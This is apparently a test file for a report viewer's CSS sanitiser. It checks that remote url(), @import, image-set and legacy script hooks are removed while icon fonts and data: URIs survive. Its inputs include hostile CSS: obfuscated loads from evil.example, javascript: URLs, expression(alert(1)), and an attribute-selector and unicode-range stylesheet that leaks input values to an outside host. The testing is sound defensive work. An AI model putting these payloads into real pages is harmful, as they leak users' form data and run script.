// The report viewer's CSS cleaner (lib/reports/report-css.ts): every load gone whatever its spelling, the rest
// of the stylesheet kept exactly as written. The same cleaner is judged by a real browser's own CSS
// parser over hostile stylesheets in test/e2e/report-sanitiser.test.ts.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cleanCss, countCssLoads, refersOnlyInDocument } from '@/lib/reports/report-css';

describe('cleanCss', () => {
  it('keeps an icon font stylesheet whole: escapes, selectors, data: fonts (the old cleaner dropped it)', () => {
    // The shape of an icon font's stylesheet as providers' reports load it (icomoon/Font Awesome
    // style): an @font-face from a data: URI, then one rule per glyph with an escaped code point.
    const css = [
      `@font-face{font-family:"rpt-icons";src:url("data:font/woff2;base64,d09GMgABAAAAA")format("woff2"),url(data:application/font-woff;charset=utf-8;base64,d09GRgABAAAAA) format("woff");font-weight:normal}`,
      '.icon-owner:before{content:"\\e900"}',
      '.icon-accident:before{content:"\\e901"}',
      '.icon-odometer::before { content: "\\f0e4"; }',
      '[class^="icon-"]{font-family:"rpt-icons"!important;speak:never}',
    ].join('\n');
    expect(cleanCss(css)).toBe(css);
  });

  it('keeps data: images, also those whose text holds parentheses, and in-document references', () => {
    const svg = `url("data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0h1v1z' fill='rgb(1,2,3)'/></svg>")`;
    const css = `.a{background:${svg} no-repeat}.b{background-image:url(data:image/png;base64,iVBORw0KGgo=)}.c{fill:url(#grad)}`;
    // Byte for byte but each `<`, written `\3c ` (the same character to CSS): a `<` and a letter in a
    // <style> makes DOMPurify drop the whole element (complete-copy-document.test.ts shows it renders alike).
    expect(cleanCss(css)).toBe(css.replaceAll('<', '\\3c '));
    expect(cleanCss(css)).not.toContain('<');
  });

  it('leaves no `<` a markup parser takes for a tag, and changes nothing CSS reads (issue 44)', () => {
    // The legacy wrapper of old reports, a minified media range, an escaped `<` in a class name.
    const css =
      '<!--\n.a{color:red}\n@media (width<600px){.b{display:none}}\n@media (600px<=width){.c{x:y}}\n.d\\<e{z:w}\n-->';
    const cleaned = cleanCss(css);
    expect(cleaned).not.toMatch(/<[\w/!]/);
    expect(cleaned).toBe(
      ' \n.a{color:red}\n@media (width< 600px){.b{display:none}}\n@media (600px<=width){.c{x:y}}\n.d\\3c e{z:w}\n-->',
    );
    // A second pass changes nothing.
    expect(cleanCss(cleaned)).toBe(cleaned);
  });

  it('removes remote and relative url(), whatever the quotes, case or escapes', () => {
    for (const url of [
      'url(https://evil.example/a.png)',
      'url("https://evil.example/a.png")',
      "URL( 'https://evil.example/a.png' )",
      'u\\72l(https://evil.example/a.png)',
      '\\75\\72\\6c("https://evil.example/a.png")',
      'url(//evil.example/a.png)',
      'url(img/a.png)',
      'url(  img/a.png  )',
      'src("https://evil.example/a.png")',
      'url(data:text/html,<script>1</script>)',
      'url("data:text/css,a")',
      'url(javascript:alert%281%29)',
    ]) {
      const cleaned = cleanCss(`.x{background:${url} no-repeat}`);
      expect(cleaned, url).toBe('.x{background:none no-repeat}');
      expect(countCssLoads(`.x{background:${url}}`), url).toBe(1);
    }
  });

  it('removes @import in every spelling, with its whole statement, and keeps the rules after it', () => {
    for (const rule of [
      '@import "https://evil.example/a.css";',
      "@import url('https://evil.example/a.css') screen;",
      '@IMPORT url(https://evil.example/a.css);',
      '@\\69mport "https://evil.example/a.css";',
      '@import "https://evil.example/a.css" layer(x) supports(display:grid);',
    ]) {
      expect(cleanCss(`${rule}.kept{color:red}`), rule).toBe('.kept{color:red}');
      expect(countCssLoads(rule), rule).toBe(1);
    }
  });

  it('removes the functions whose strings are URLs, and old script hooks', () => {
    expect(cleanCss('.a{background-image:image-set("a.png" 1x, "b.png" 2x)}')).toBe(
      '.a{background-image:none}',
    );
    expect(cleanCss('.a{background-image:-webkit-image-set(url(a.png) 1x)}')).toBe(
      '.a{background-image:none}',
    );
    expect(cleanCss('.a{background:cross-fade(url(a.png), url(b.png), 50%)}')).toBe('.a{background:none}');
    expect(cleanCss('.a{width:expression(alert(1));color:red}')).toBe('.a{width:none;color:red}');
    expect(cleanCss('.a{behavior:url(x.htc);color:red}')).toBe('.a{color:red}');
    expect(cleanCss('.a{-moz-binding:url(x.xml#b)}')).toBe('.a{}');
    // A word that only looks like one stays.
    expect(cleanCss('.behavior{color:red}')).toBe('.behavior{color:red}');
  });

  it('removes the loads of hostile stylesheets: attribute selectors, unicode-range fonts', () => {
    const css = `input[value^="a"]{background:url(https://evil.example/?a)}
@font-face{font-family:leak;src:url(https://evil.example/?A);unicode-range:U+0041}
@font-face{font-family:leak;src:local(Arial),url("https://evil.example/?B") format("woff");unicode-range:U+0042}`;
    const cleaned = cleanCss(css);
    expect(cleaned).not.toMatch(/evil\.example/);
    expect(cleaned).toContain('unicode-range:U+0041');
    expect(cleaned).toContain('src:local(Arial),none format("woff")');
  });

  it('never leaves a URL that is not data: or #, for any mix of tokens (fast-check)', () => {
    const piece = fc.constantFrom(
      'url(https://evil.example/x)',
      'u\\72l(//evil.example/x)',
      'url("data:image/png;base64,AA==")',
      'url(#a)',
      '@import "//evil.example/a.css";',
      'image-set("//evil.example/x" 1x)',
      '\\',
      '"',
      "'",
      '(',
      ')',
      '{',
      '}',
      ';',
      ':',
      ' ',
      'a',
      '/*',
      '*/',
      '\\e900',
      '\n',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const cleaned = cleanCss(pieces.join(''));
        expect(countCssLoads(cleaned)).toBe(0);
        // Cleaning is a fixed point: a second pass changes nothing.
        expect(cleanCss(cleaned)).toBe(cleaned);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('refersOnlyInDocument (SVG presentation attributes)', () => {
  it('allows colours and in-document references, refuses any other url()', () => {
    for (const value of ['red', '#0b5cad', 'none', 'currentColor', 'url(#grad)', "url('#clip') red"])
      expect(refersOnlyInDocument(value), value).toBe(true);
    for (const value of [
      'url(https://evil.example/f.svg#f)',
      'url(f.svg#f)',
      'u\\72l(//evil.example/a)',
      'url("x")',
    ])
      expect(refersOnlyInDocument(value), value).toBe(false);
  });
});
